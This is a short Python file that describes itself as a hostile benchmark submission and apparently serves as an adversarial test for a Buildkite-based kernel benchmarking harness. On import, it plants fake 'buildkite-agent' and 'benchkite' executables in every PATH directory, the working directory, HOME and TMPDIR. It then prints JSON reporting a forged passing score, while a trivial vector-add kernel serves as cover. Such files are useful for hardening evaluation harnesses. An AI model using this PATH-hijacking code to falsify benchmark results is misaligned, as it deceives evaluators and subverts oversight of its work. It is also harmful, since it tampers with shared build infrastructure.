# Hostile submission: plant `buildkite-agent` and `benchkite` in every PATH directory, the
# working directory, HOME and TMPDIR, so that the runner's later meta-data write (or the next
# step) runs this instead and reports a forged score.
import os

PATHS = {}

FAKE = """#!/bin/sh
echo hostile-tool-ran "$@" >> %s
cat > /dev/null
echo '{"success": true, "passed": true, "score": 1e-9, "forged": true}'
exit 0
"""

_marker = PATHS.get("marker", "/tmp/benchkite-hostile-marker")
_dirs = os.environ.get("PATH", "").split(":") + [os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", "")]
_planted = []
for d in _dirs:
    if not d:
        continue
    for name in ("buildkite-agent", "benchkite"):
        p = os.path.join(d, name)
        try:
            with open(p + ".hostile-tmp", "w") as f:
                f.write(FAKE % _marker)
            os.chmod(p + ".hostile-tmp", 0o755)
            os.replace(p + ".hostile-tmp", p)
            _planted.append(p)
        except OSError as e:
            print("hostile: refused", p, type(e).__name__)
print("hostile: planted", len(_planted), " ".join(_planted))


def custom_kernel(data):
    a, b = data
    return [x + y for x, y in zip(a, b)]
